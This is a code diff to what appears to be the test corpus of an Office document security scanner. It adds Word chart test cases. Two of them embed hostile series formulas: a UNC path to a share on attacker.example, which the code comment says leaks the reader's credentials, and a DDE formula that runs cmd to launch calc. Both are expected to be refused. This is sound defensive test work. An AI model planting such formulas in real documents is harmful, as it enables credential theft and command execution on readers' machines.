@@ -1357,6 +1357,7 @@ const officeItems: CorpusItem[] = [
   ...prefixedOfficeItems(),
   ...strictOfficeItems(),
   ...svgContentOfficeItems(),
+  ...wordChartOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3581,6 +3582,12 @@ export const ACTIVE_GENUINE: readonly {
       ),
   },
   {
+    id: 'docx-chart-series-formula',
+    declared: 'docx',
+    // Round 14: a Word chart whose series formulas name its own data's cells, as Word writes them.
+    bytes: () => documentWithChart("'营业 收入'!$B$2:$B$5"),
+  },
+  {
     id: 'docx-svg-icon',
     declared: 'docx',
     // Round 14: an icon from Office's gallery (SVG, its PNG copy beside it): gradients and shapes
@@ -4751,5 +4758,39 @@ function svgContentOfficeItems(): CorpusItem[] {
         ),
       'OOXML_UNREADABLE',
     ),
+  ];
+}
+
+/** A Word document with one chart (word/charts/chart1.xml) whose series' values come from `formula`. */
+function documentWithChart(formula: string): Promise<Buffer> {
+  const chart = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:plotArea><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>Sheet1!$B$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>营业收入</c:v></c:pt></c:strCache></c:strRef></c:tx><c:val><c:numRef><c:f>${formula}</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="1"/><c:pt idx="0"><c:v>86.5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`;
+  return office(
+    'docx',
+    {
+      ...mainRels('docx', rel('rId7', 'chart', 'charts/chart1.xml')),
+      '[Content_Types].xml': contentTypes(
+        'docx',
+        '<Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
+      ),
+    },
+    [{ name: 'word/charts/chart1.xml', data: chart }],
+  );
+}
+
+/**
+ * A Word chart's series formula (`c:f`) naming another book in a share, or DDE (round 14): Word's
+ * charts were read for fields and pictures only, so both were VALID. Word draws a chart from its
+ * cached values; editing or refreshing its data follows the formula, and a share leaks the
+ * reader's credentials, so it is refused as an Excel chart's is.
+ */
+function wordChartOfficeItems(): CorpusItem[] {
+  return [
+    item(
+      'docx-chart-series-formula-share',
+      'OOXML external',
+      () => documentWithChart("'\\\\attacker.example\\s\\[b.xlsx]Sheet1'!$B$2:$B$5"),
+      'OOXML_EXTERNAL',
+    ),
+    item('docx-chart-series-formula-dde', 'DDE', () => documentWithChart("cmd|' /c calc'!A0"), 'OOXML_DDE'),
   ];
 }
